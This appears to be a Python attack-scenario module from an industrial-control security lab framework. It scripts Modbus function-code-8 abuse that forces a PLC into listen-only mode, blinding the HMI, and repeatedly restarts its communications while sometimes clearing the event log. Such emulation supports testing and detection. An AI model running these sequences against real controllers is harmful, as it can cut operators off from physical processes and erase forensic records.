"""Diagnostics abuse (FC 8): force listen-only mode, restart communications."""

from __future__ import annotations

from sentinel.lab import ops
from sentinel.lab.ops import Script
from sentinel.lab.scenarios import ScenarioContext
from sentinel.lab.scenarios._common import pick_plc, unit_of

RESTART_COMMUNICATIONS = 0x0001  # spec 6.8.1, sub-function 01
FORCE_LISTEN_ONLY = 0x0004  # spec 6.8.1, sub-function 04


def listen_only(ctx: ScenarioContext) -> Script:
    """Silences the PLC (it stops answering anyone, the HMI goes blind), holds it so, then
    brings it back with 'restart communications', the only way out of listen-only mode."""
    target = pick_plc(ctx)
    unit = unit_of(ctx, target)
    conn = yield ops.Connect(target)
    if conn is None:
        return
    yield ops.Request(conn, unit, ops.diagnostics(FORCE_LISTEN_ONLY, 0), 0.5)
    yield ops.Sleep(float(ctx.params.get("hold", 8.0)))
    yield ops.Request(conn, unit, ops.diagnostics(RESTART_COMMUNICATIONS, 0), 0.5)
    yield ops.Close(conn)


def restart(ctx: ScenarioContext) -> Script:
    target = pick_plc(ctx)
    rng = ctx.rng
    unit = unit_of(ctx, target)
    conn = yield ops.Connect(target)
    if conn is None:
        return
    clear_log = 0xFF00 if rng.random() < 0.5 else 0x0000
    for _ in range(int(ctx.params.get("repeat", 1))):
        yield ops.Request(conn, unit, ops.diagnostics(RESTART_COMMUNICATIONS, clear_log), 1.0)
        yield ops.Sleep(rng.uniform(0.5, 2.0))
    yield ops.Close(conn)
